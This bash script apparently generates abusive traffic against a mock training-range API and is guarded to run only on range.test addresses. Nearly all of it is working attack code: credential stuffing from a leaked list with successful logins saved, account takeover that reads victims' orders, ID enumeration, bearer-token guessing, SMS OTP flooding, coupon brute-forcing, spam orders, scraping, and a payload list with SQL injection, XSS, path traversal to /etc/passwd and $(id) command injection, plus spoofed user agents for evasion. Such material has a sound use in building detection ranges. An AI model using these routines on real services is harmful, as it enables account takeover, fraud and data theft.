#!/usr/bin/env bash
# Abusive one-liners, as they are typed or pasted: curl in a loop or under xargs -P, curl's globbing, aria2's list. $1 says which.
. "$(dirname "$0")/seat.sh"
# For the range's own mock API only.
[[ $RANGE_URL =~ ^https://[a-z0-9-]+\.range\.test(:[0-9]+)?$ ]] || { echo "not an address of the range: $RANGE_URL"; exit 1; }

# Numbers between $2 and $3, small ones more often.
draw_log() {
  local low=$2 high=$3 steps=0 n
  for (( n = low; n * 2 <= high; n *= 2 )); do (( steps++ )); done
  draw steps 0 "$steps"
  draw "$1" $(( low << steps )) $(( (low << steps) * 2 < high ? (low << steps) * 2 : high ))
}
has() { [[ +$RANGE_FORM+ == *+$1+* ]]; }
pick() { draw picked 1 $(( $# - 1 )); printf -v "$1" '%s' "${@:picked + 1:1}"; }

flags=(-sk -o /dev/null -w '%{http_code}\n' -m 10)
draw silent 0 2
if has browser; then
  pick agent 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36' \
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:124.0) Gecko/20100101 Firefox/124.0'
  flags+=(-A "$agent" --compressed)
  more=(-H 'Accept: application/json, text/plain, */*' -H 'Accept-Language: en-US,en;q=0.5' -H "Referer: $RANGE_URL/")
  [ "$silent" = 0 ] || flags+=("${more[@]}")
elif has mobile; then
  pick agent okhttp/4.9.3 'MyShop/88 CFNetwork/1485 Darwin/23.1.0' 'Dalvik/2.1.0 (Linux; U; Android 11; SM-A125F)'
  flags+=(-A "$agent" -H 'Accept: application/json')
fi

json=(-H 'Content-Type: application/json')
login() {
  local body="{\"email\":\"${1:-$RANGE_EMAIL}\",\"password\":\"${2:-$RANGE_PASSWORD}\"}"
  curl -sk "${json[@]}" -d "$body" "$RANGE_URL$(at login)" | field token
}
credential=()
enter() {
  if has key; then credential=(-H "X-Api-Key: $RANGE_API_KEY")
  elif has account || [ "$1" = needed ]; then credential=(-H "Authorization: Bearer $(login)"); fi
}

draw_log calls 40 600
# Most wait a fixed while between two calls, some not at all.
draw_log gap 10 700
has jitter || has pauses || { draw hasty 0 2; [ "$hasty" = 0 ] && gap=0; }
made=0
go_on() {
  (( made++ ))
  is_over || [ "$made" -gt "$calls" ] && return 1
  if has jitter; then draw now 200 2200; pause "$now"
  elif has pauses && (( made % 25 == 0 )); then draw now 4000 11000; pause "$now"
  else pause "$gap"; fi
}

# A stretch of ids as they are known from one's own, or from a list where they are no numbers.
ids_of() {
  local file=$RANGE_IDS first count=$2 n
  [ "$1" = customer ] && file=$RANGE_CUSTOMER_IDS
  draw line 1 $(( $(wc -l < "$file") - count > 1 ? $(wc -l < "$file") - count : 1 ))
  first=$(sed -n "${line}p" "$file")
  if [[ $first =~ ^[0-9]+$ ]]; then seq "$first" $(( first + count - 1 )); else sed -n "${line},$(( line + count - 1 ))p" "$file"; fi
}

enumeration() {
  enter needed
  pick kind order order customer
  for id in $(ids_of "$kind" "$calls"); do
    go_on || return
    code=$(curl "${flags[@]}" "${credential[@]}" "$RANGE_URL$(at "$kind" "$id")")
    echo "$code $id"
    # Its token has run out.
    [ "$code" = 401 ] && ! has key && enter needed
    [ "$code" = 429 ] && pause 2000
  done
}

xargs_enumeration() {
  enter "$( [ "$silent" = 0 ] || echo needed )"
  pick kind order order customer
  draw width 2 10
  ids_of "$kind" "$calls" | { [ "$silent" = 1 ] && shuf --random-source="$RANGE_IDS" || cat; } |
    timeout "$((RANGE_SECONDS - 2))" xargs -P "$width" -I_ID_ curl "${flags[@]}" "${credential[@]}" "$RANGE_URL$(at "$kind" _ID_)"
}

# One curl for all: one connection, or -Z for many at once.
globbing() {
  enter "$( [ "$silent" = 0 ] || echo needed )"
  first=$(ids_of order 1)
  [[ $first =~ ^[0-9]+$ ]] || { first="{$(ids_of order "$calls" | paste -sd,)}"; set -- list; }
  [ "${1:-}" = list ] || first="[$first-$(( first + calls ))]"
  pace=(--rate "$(( 60 + gap / 2 ))/m")
  (( gap < 300 )) && pace=()
  (( gap < 60 )) && pace=(-Z --parallel-max 6)
  timeout "$((RANGE_SECONDS - 2))" curl "${flags[@]}" "${credential[@]}" "${pace[@]}" "$RANGE_URL$(at order "$first")"
}

stuffing() {
  while IFS=: read -r email password; do
    go_on || return
    code=$(curl "${flags[@]}" "${json[@]}" -d "{\"email\":\"$email\",\"password\":\"$password\"}" "$RANGE_URL$(at login)")
    [ "$code" = 200 ] && echo "$email:$password" >> hits.txt
    [ "$code" = 429 ] && pause 1500
  done < <(shuf --random-source="$RANGE_LEAKED" "$RANGE_LEAKED")
}

tokens() {
  draw width 1 8
  pick door me orders customers
  for (( n = 0; n < calls; n++ )); do
    printf '%04x%04x%04x%04x%04x%04x%04x%04x%04x%04x\n' $RANDOM $RANDOM $RANDOM $RANDOM $RANDOM $RANDOM $RANDOM $RANDOM $RANDOM $RANDOM
  done | timeout "$((RANGE_SECONDS - 2))" xargs -P "$width" -I_ID_ sh -c 'sleep "$0"; exec curl "$@"' "0.$(printf '%03d' "$gap")" \
    "${flags[@]}" -H 'Authorization: Bearer _ID_' "$RANGE_URL$(at "$door")"
}

sms() {
  pick prefix +77012 +99450 +23480 +85251
  draw number 100000 800000
  while go_on; do
    (( number++ ))
    code=$(curl "${flags[@]}" "${json[@]}" -d "{\"phone\":\"$prefix$number\"}" "$RANGE_URL$(at otpSend)")
    [ "$code" = 429 ] && pause 1000
  done
}

# Which addresses have an account, from what the reset says.
user_enumeration() {
  pick door reset reset signup
  while IFS=: read -r email _; do
    go_on || return
    body="{\"email\":\"$email\"}"
    [ "$door" = signup ] && body="{\"email\":\"$email\",\"password\":\"Passw0rd$RANDOM\",\"name\":\"x\"}"
    code=$(curl "${flags[@]}" "${json[@]}" -d "$body" "$RANGE_URL$(at "$door")")
    [ "$code" = 429 ] && pause 1500
  done < <(shuf --random-source="$RANGE_LEAKED" "$RANGE_LEAKED")
}

coupons() {
  cart=$(curl -sk "${json[@]}" -d '{}' "$RANGE_URL$(at cart)" | field id)
  while go_on; do
    pick word SAVE SALE SUMMER VIP WELCOME TEAM THANKS
    pick number 5 10 15 20 25 50 2025 2026 "$RANDOM"
    code=$(curl "${flags[@]}" "${json[@]}" -d "{\"code\":\"$word$number\"}" "$RANGE_URL$(at coupon "$cart")")
    [ "$code" = 429 ] && pause 1500
  done
}

# Quotes and unions in whatever takes a value, one payload after the other.
injection() {
  payloads=("'" "' OR '1'='1" "1 OR 1=1--" "' UNION SELECT NULL,NULL--" "'; WAITFOR DELAY '0:0:5'--" "\" OR \"\"=\"" "admin'--" "1' AND SLEEP(3)#"
    "<script>alert(1)</script>" "\${7*7}" "../../../../etc/passwd" "{{7*7}}" ";id" "\$(id)" "%00" "' AND 1=2 UNION SELECT version()--")
  enter ''
  while go_on; do
    pick payload "${payloads[@]}"
    draw salt 1 9999
    pick place search products order login
    case $place in
      login) body=$(printf '{"email":"%s","password":"x"}' "${payload//\"/\\\"}$salt")
        code=$(curl "${flags[@]}" "${json[@]}" -d "$body" "$RANGE_URL$(at login)") ;;
      search) code=$(curl "${flags[@]}" "${credential[@]}" -G --data-urlencode "q=$payload $salt" "$RANGE_URL$(at search)") ;;
      products) code=$(curl "${flags[@]}" "${credential[@]}" -G --data-urlencode "category=$payload" "$RANGE_URL$(at products)") ;;
      order) code=$(curl "${flags[@]}" "${credential[@]}" -G --data-urlencode "id=$payload" "$RANGE_URL$(at order "$salt")") ;;
    esac
    [ "$code" = 429 ] && pause 1500
  done
}

spam() {
  enter needed
  products=($(curl -sk "$RANGE_URL$(at products)?limit=20" | ids))
  pick line 'Earn from home' 'Meds without recipe' 'Free spins'
  while go_on; do
    pick id "${products[@]:-1}"
    body="{\"items\":[{\"productId\":\"$id\",\"qty\":1}],\"note\":\"$line http://s$RANDOM.example\"}"
    code=$(curl "${flags[@]}" "${json[@]}" "${credential[@]}" -d "$body" "$RANGE_URL$(at orders)")
    [ "$code" = 401 ] && ! has key && enter needed
    [ "$code" = 429 ] && pause 2000
  done
}

cashing_out() {
  awk 'NR % 33 == 8' "$RANGE_LEAKED" | shuf --random-source="$RANGE_LEAKED" | while IFS=: read -r email password; do
    go_on || return
    token=$(login "$email" "$password")
    [ -z "$token" ] && continue
    curl "${flags[@]}" -H "Authorization: Bearer $token" "$RANGE_URL$(at me)"
    for id in $(curl -sk -H "Authorization: Bearer $token" "$RANGE_URL$(at orders)?limit=20" | ids | head -n 3); do
      go_on || return
      curl "${flags[@]}" -H "Authorization: Bearer $token" "$RANGE_URL$(at order "$id")"
    done
  done
}

# The catalogue's addresses, counted up or read off the list, into aria2.
aria2_copy() {
  for (( page = 0; page < 8; page++ )); do
    path=${next:-$(at products)?limit=100}
    curl -sk "$RANGE_URL$path" > page.json
    ids < page.json | while read -r id; do echo "$RANGE_URL$(at product "$id")"; done >> list.txt
    next=$(grep -o '"next" *: *"[^"]*"' page.json | tail -n 1 | sed 's/^[^:]*: *"//; s/"$//')
    [ -z "$next" ] || [ "$(wc -l < list.txt)" -gt "$calls" ] && break
    pause "$gap"
  done
  head -n "$calls" list.txt > some.txt
  draw width 1 12
  name=()
  [ -n "${agent:-}" ] && name=(-U "$agent")
  timeout "$((RANGE_SECONDS - 4))" aria2c -q -j "$width" -d out --check-certificate=false "${name[@]}" -i some.txt
}

"$1"
